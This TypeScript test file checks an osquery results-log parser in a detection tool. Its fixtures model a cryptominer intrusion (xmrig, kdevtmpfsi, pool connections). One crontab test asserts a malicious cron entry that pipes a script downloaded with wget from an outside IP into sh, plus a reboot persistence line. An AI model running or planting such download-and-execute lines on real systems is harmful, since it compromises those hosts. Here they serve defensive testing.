import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cutLineCase, fileInput, memoryInput, readAll, runSourceContract } from './contract.js';
import { osquery, tableOf } from './osquery.js';

const good = fileInput('test/fixtures/osquery/good.log');
const bad = fileInput('test/fixtures/osquery/bad.log');
runSourceContract({
  source: osquery,
  good,
  bad,
  // the file copied while a record was written: it ends inside a string value
  cut: cutLineCase(good, 0, '"cmdline":"', '/tmp/cutmin'),
});

/** One differential line as osqueryd writes it. */
function diffLine(name: string, columns: Record<string, unknown>, extra: Record<string, unknown> = {}): string {
  return `${JSON.stringify({
    name,
    hostIdentifier: 'web-01',
    calendarTime: 'Fri Mar 14 02:11:00 2025 UTC',
    unixTime: 1741918260,
    epoch: 0,
    counter: 1,
    numerics: false,
    columns,
    action: 'added',
    ...extra,
  })}\n`;
}

test('recognises each table by its columns, whatever the query is called', async () => {
  const { events } = await readAll(osquery, good);
  assert.deepEqual(
    events.map((e) => [e.event.dataset, e.event.action]),
    [
      ['osquery.processes', 'process-seen'],
      ['osquery.processes', 'process-seen'],
      ['osquery.processes', 'process-seen'],
      ['osquery.processes', 'process-seen'],
      ['osquery.process_open_sockets', 'connect'],
      ['osquery.process_open_sockets', 'connect'],
      ['osquery.listening_ports', 'listen'],
      ['osquery.crontab', 'persistence-entry'],
      ['osquery.crontab', 'persistence-entry'],
      ['osquery.crontab', 'persistence-entry'],
      ['osquery.processes', 'exit'],
    ],
  );
  assert.equal(tableOf({ pid: '1', name: 'x', path: '/x', sha256: 'ab' }), 'processes');
  assert.equal(tableOf({ pid: '1', port: '80', address: '0.0.0.0', name: 'nginx' }), 'listening_ports');
  assert.equal(tableOf({ username: 'root', uid: '0', shell: '/bin/bash' }), undefined);
});

test('a processes row becomes process-seen with exe, parent, start, user, memory and CPU time', async () => {
  const { events } = await readAll(osquery, good);
  const miner = events[2];
  assert.equal(miner['@timestamp'], '2025-03-14T02:11:00.000Z');
  assert.deepEqual(miner.host, {
    name: 'web-01',
    id: '4c4c4544-0037-3510-8052-b4c04f4e4d32',
    os: { platform: 'linux' },
  });
  assert.deepEqual(miner.process, {
    pid: 4130,
    name: 'kdevtmpfsi',
    executable: '/tmp/kdevtmpfsi',
    command_line: '/tmp/kdevtmpfsi',
    working_directory: '/tmp',
    parent: { pid: 1 },
    start: '2025-03-14T02:10:09.000Z',
    exe_deleted: true,
  });
  assert.deepEqual(miner.user, { id: '112' });
  assert.deepEqual(miner.metrics, { rss_bytes: 2415919104, cpu_time_ms: 197330 });
  assert.deepEqual(miner.coalmine.ref, { file: good.name, line: 1 });
  assert.equal(miner.original.name, 'pack_coalmine_processes');
  assert.equal(miner.original.action, 'snapshot');
  assert.equal((miner.original.columns as Record<string, unknown>).pgroup, '4130');
});

test('on_disk says whether the executable was deleted, and -1 or no path means unknown', async () => {
  const { events } = await readAll(osquery, good);
  const [sshd, kworker, miner] = events;
  assert.equal(sshd.process?.exe_deleted, false);
  assert.equal(kworker.process?.exe_deleted, undefined);
  assert.equal(kworker.process?.executable, undefined);
  assert.equal(miner.process?.exe_deleted, true);
});

test('all rows of a snapshot carry the line of their snapshot', async () => {
  const { events } = await readAll(osquery, good);
  assert.deepEqual(
    events.slice(0, 3).map((e) => e.coalmine.ref),
    [1, 1, 1].map((line) => ({ file: good.name, line })),
  );
});

test('numerics true and false logs give the same event', async () => {
  const strings = { pid: '4130', name: 'xmrig', path: '/dev/shm/xmrig', cmdline: './xmrig -o pool:3333', parent: '1' };
  const numbers = { pid: 4130, name: 'xmrig', path: '/dev/shm/xmrig', cmdline: './xmrig -o pool:3333', parent: 1 };
  const a = await readAll(
    osquery,
    memoryInput('a.log', diffLine('q', { ...strings, uid: '0', user_time: '10', system_time: '5' })),
  );
  const b = await readAll(
    osquery,
    memoryInput('a.log', diffLine('q', { ...numbers, uid: 0, user_time: 10, system_time: 5 }, { numerics: true })),
  );
  assert.deepEqual(a.issues, []);
  assert.deepEqual(b.issues, []);
  assert.deepEqual(a.events[0].process, b.events[0].process);
  assert.deepEqual(a.events[0].user, b.events[0].user);
  assert.deepEqual(b.events[0].metrics, { cpu_time_ms: 15 });
});

test('a join with hash adds the sha256', async () => {
  const { events } = await readAll(osquery, good);
  assert.deepEqual(events[3].process?.hash, {
    sha256: '8c7b6f1e93ba8d3e4f1f0b9d77e0e1e4f4c1b6f0f9a7a2d1c3b4e5f60718293a',
  });
  assert.equal(events[3].process?.exe_deleted, true);
});

test('a removed processes row is an exit, without stale counters as a sample', async () => {
  const { events } = await readAll(osquery, good);
  const exit = events[events.length - 1];
  assert.equal(exit.event.action, 'exit');
  assert.deepEqual(exit.event.type, ['end']);
  assert.equal(exit.process?.pid, 4130);
  assert.equal(exit.metrics, undefined);
  assert.equal(exit.original.action, 'removed');
});

test('only sockets with a real remote peer that we opened become connect events', async () => {
  const { events } = await readAll(osquery, good);
  const connects = events.filter((e) => e.event.action === 'connect');
  // the LISTEN socket (remote 0.0.0.0:0) and sshd's accepted client on port 22 are not connections out
  assert.deepEqual(
    connects.map((e) => [e.process?.pid, e.source, e.destination, e.network?.transport]),
    [
      [4130, { ip: '10.0.4.17', port: 41872 }, { ip: '198.51.100.23', port: 3333 }, 'tcp'],
      [4130, { ip: '10.0.4.17', port: 50112 }, { ip: '198.51.100.24', port: 443 }, 'tcp'],
    ],
  );
});

test('a UDP socket with a peer maps protocol 17 to udp', async () => {
  const row = {
    fd: '5',
    family: '2',
    local_address: '10.0.4.17',
    local_port: '38211',
    path: '',
    pid: '4130',
    protocol: '17',
    remote_address: '192.0.2.53',
    remote_port: '53',
    socket: '9001',
    state: '',
  };
  const { events } = await readAll(osquery, memoryInput('u.log', diffLine('udp', row)));
  assert.equal(events[0].network?.transport, 'udp');
  assert.deepEqual(events[0].destination, { ip: '192.0.2.53', port: 53 });
});

test('listening_ports rows become listen events on the local address', async () => {
  const { events } = await readAll(osquery, good);
  const listen = events.find((e) => e.event.action === 'listen');
  assert.deepEqual(listen?.source, { ip: '0.0.0.0', port: 45678 });
  assert.deepEqual(listen?.process, { pid: 4130 });
  assert.equal(listen?.network?.transport, 'tcp');
});

test('crontab rows are persistence entries tied to what they launch', async () => {
  const { events } = await readAll(osquery, good);
  const cron = events.filter((e) => e.event.dataset === 'osquery.crontab');
  assert.deepEqual(
    cron.map((e) => [e.event.kind, e.file?.path, e.file?.line, e.process?.user?.name, e.coalmine.persistence]),
    [
      [
        'state',
        '/etc/crontab',
        '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
        'root',
        { mechanism: 'cron', target: '/etc/cron.hourly' },
      ],
      [
        'state',
        '/var/spool/cron/crontabs/redis',
        '* * * * * wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1',
        undefined,
        { mechanism: 'cron' },
      ],
      [
        'state',
        '/var/spool/cron/crontabs/redis',
        '@reboot /tmp/kdevtmpfsi',
        undefined,
        { mechanism: 'cron', target: '/tmp/kdevtmpfsi' },
      ],
    ],
  );
  assert.equal(cron[0].process?.command_line, 'cd / && run-parts --report /etc/cron.hourly');
  assert.equal(cron[2].process?.command_line, '/tmp/kdevtmpfsi');
});

test('an unknown table is reported once per query name, not once per line', async () => {
  const { issues } = await readAll(osquery, bad);
  const unknown = issues.filter((i) => i.code === 'OSQUERY_UNKNOWN_TABLE');
  assert.equal(unknown.length, 1);
  assert.equal(unknown[0].line, 4);
  assert.match(unknown[0].reason, /query "pack_it_users" has columns of no table/);
});

test('bad lines are reported with their line and code, and the good ones around them are read', async () => {
  const { events, issues } = await readAll(osquery, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [2, 'OSQUERY_BAD_JSON'],
      [3, 'OSQUERY_BAD_ENVELOPE'],
      [4, 'OSQUERY_UNKNOWN_TABLE'],
      [6, 'OSQUERY_BAD_ROW'],
      [7, 'OSQUERY_BAD_ENVELOPE'],
    ],
  );
  assert.match(issues[1].reason, /unixTime is missing/);
  assert.match(issues[3].reason, /pid "not-a-pid" is not a process id/);
  assert.match(issues[4].reason, /action "changed" is not added or removed/);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.event.action]),
    [
      [1, 'process-seen'],
      [8, 'connect'],
    ],
  );
});

test('batched diffResults lines give added and removed rows', async () => {
  const line = `${JSON.stringify({
    name: 'procs',
    hostIdentifier: 'web-01',
    calendarTime: 'Fri Mar 14 02:11:00 2025 UTC',
    unixTime: '1741918260',
    epoch: 0,
    counter: 2,
    numerics: false,
    diffResults: {
      added: [{ pid: '77', name: 'xmrig', path: '/tmp/xmrig', cmdline: '/tmp/xmrig', parent: '1' }],
      removed: [{ pid: '12', name: 'sleep', path: '/usr/bin/sleep', cmdline: 'sleep 9', parent: '1' }],
    },
  })}\n`;
  const { events, issues } = await readAll(osquery, memoryInput('batch.log', line));
  assert.deepEqual(issues, []);
  assert.deepEqual(
    events.map((e) => [e.event.action, e.process?.pid]),
    [
      ['process-seen', 77],
      ['exit', 12],
    ],
  );
});

test('the host falls back to the input hint, and decorations can name another platform', async () => {
  const row = { pid: '4', name: 'xmrig.exe', path: 'C:\\Users\\Public\\xmrig.exe', cmdline: 'xmrig.exe', parent: '1' };
  const line = diffLine('p', row, { hostIdentifier: '', decorations: { platform: 'windows' } });
  const { events } = await readAll(osquery, memoryInput('w.log', line, { hostHint: 'desk-7' }));
  assert.deepEqual(events[0].host, { name: 'desk-7', os: { platform: 'windows' } });
});

test('sniffs results logs but not coalmine NDJSON or other JSON', () => {
  const input = { name: 'x.log' };
  assert.equal(osquery.sniff(diffLine('p', { pid: '1' }), input), 90);
  assert.equal(osquery.sniff('{"@timestamp":"2025-03-14T02:10:09Z","event":{"action":"exec"}}\n', input), 0);
  assert.equal(osquery.sniff('{"hostIdentifier":"web-01","status":"ok"}\n', input), 0);
  const cut = diffLine('p', { pid: '1', cmdline: 'x'.repeat(100) }).slice(0, 200);
  assert.equal(osquery.sniff(cut, input), 60);
});

test('a log kept by a pipeline and exported newest first is given in time order, so cumulative CPU makes rates', async () => {
  const row = { pid: '4130', name: 'xmrig', path: '/dev/shm/xmrig', cmdline: './xmrig', parent: '1', system_time: '0' };
  const lines: string[] = [];
  for (let m = 19; m >= 0; m--)
    lines.push(diffLine('q', { ...row, user_time: String(m * 234_000) }, { unixTime: 1741918260 + m * 60 }));
  const { events, issues } = await readAll(osquery, memoryInput('newest-first.log', lines.join('')));
  assert.deepEqual(issues, []);
  // 3.9 cores busy: the counter grows 234 s a minute
  assert.deepEqual(
    events.map((e) => e.metrics?.cpu_time_ms),
    Array.from({ length: 20 }, (_, m) => m * 234_000),
  );
  assert.deepEqual(
    events.map((e) => e.coalmine.ref.line),
    Array.from({ length: 20 }, (_, i) => 20 - i),
  );
});
